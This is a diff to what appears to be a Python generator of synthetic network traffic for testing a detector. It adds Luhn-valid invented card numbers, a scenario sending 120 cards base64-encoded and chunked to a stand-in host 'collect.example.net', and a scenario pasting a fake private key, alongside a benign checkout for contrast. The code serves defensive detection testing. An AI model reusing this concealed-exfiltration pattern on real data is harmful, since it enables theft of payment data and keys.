@@ -302,10 +302,56 @@ def peer_file(wire):
     Tcp(wire, T0, (OTHER, 40001), (CLIENT, 5190)).answer(bytes(head)).say(bytes(go)).answer(data).close()
 
 
+def luhn(digits):
+    """The digits with the check digit that ISO/IEC 7812 wants."""
+    total = 0
+    for i, c in enumerate(reversed(digits)):
+        v = int(c) * (2 if i % 2 == 0 else 1)
+        total += v - 9 if v > 9 else v
+    return digits + str(-total % 10)
+
+
+def invented_cards(count):
+    """Numbers of no bank: of the form that is checked, from a fixed sequence."""
+    return [luhn("4539" + f"{(i + 1) * 7919 * 104729 % 10**11:011d}") for i in range(count)]
+
+
+def sensitive_content(wire):
+    """A list of cards within base64 in a form, by chunks; a minute later a private key in another one's paste."""
+    rows = "name,card,valid\n" + "".join(f"Person {i},{n},11/2{i % 9}\n" for i, n in enumerate(invented_cards(120)))
+    coded = base64.b64encode(rows.encode()).replace(b"+", b"%2B").replace(b"/", b"%2F").replace(b"=", b"%3D")
+    body = b"id=7&data=" + coded
+    chunks = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in (body[i:i + 997] for i in range(0, len(body), 997))) + b"0\r\n\r\n"
+    time = lookup(wire, T0, CLIENT, "collect.example.net", AWAY)
+    request = head("POST /in HTTP/1.1", "Host: collect.example.net", *BROWSER, "Content-Type: application/x-www-form-urlencoded",
+                   "Transfer-Encoding: chunked") + chunks
+    time = exchange(wire, time, CLIENT, (AWAY, 80), request)
+    key = b"-----BEGIN RSA PRIVATE KEY-----\n" + b"\n".join(
+        base64.b64encode(noise(48, seed=i + 1)) for i in range(24)) + b"\n-----END RSA PRIVATE KEY-----\n"
+    exchange(wire, time + 60 * SECOND, OTHER, (AWAY2, 80), head(
+        "POST /paste HTTP/1.1", "Host: text.example.org", *BROWSER, "Content-Type: text/plain", body=b"for later:\n" + key), port=40009)
+
+
+def benign_checkout(wire):
+    """A shop's order with one card, an invoice with an account, a number that only has a card's length, tokens of a session."""
+    time = lookup(wire, T0, CLIENT, "shop.example.net", AWAY)
+    time = exchange(wire, time, CLIENT, (AWAY, 80), head(
+        "POST /pay HTTP/1.1", "Host: shop.example.net", *BROWSER, "Referer: http://shop.example.net/", "Cookie: a=b",
+        "Content-Type: application/x-www-form-urlencoded",
+        body=b"name=Jo+Example&card=" + invented_cards(1)[0].encode() + b"&exp=11%2F29&cvc=123"))
+    time = exchange(wire, time + SECOND, CLIENT, (AWAY, 80), head(
+        "POST /invoice HTTP/1.1", "Host: shop.example.net", *BROWSER, "Content-Type: text/plain",
+        body=b"Please pay to DE89 3704 0044 0532 0130 00, order 4539578763621486."), port=40002)
+    token = b".".join(base64.urlsafe_b64encode(t).rstrip(b"=") for t in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"jo","iat":1}', noise(32)))
+    exchange(wire, time + SECOND, CLIENT, (AWAY, 80), head(
+        "POST /api HTTP/1.1", "Host: shop.example.net", *BROWSER, "Content-Type: application/json",
+        body=b'{"session":"' + token + b'"}'), port=40003)
+
+
 SCENARIOS = {f.__name__: f for f in (
     credential_post, benign_posts, web_exploit, benign_web_scan, web_shell, executable_download, http_archive_put, benign_uploads,
     mail_exfil, benign_mail, mail_spam, ftp_exfil, benign_ftp, covert_time, covert_addresses, benign_pings, raw_screens, benign_streams,
-    peer_file)}
+    peer_file, sensitive_content, benign_checkout)}
 
 
 def main():
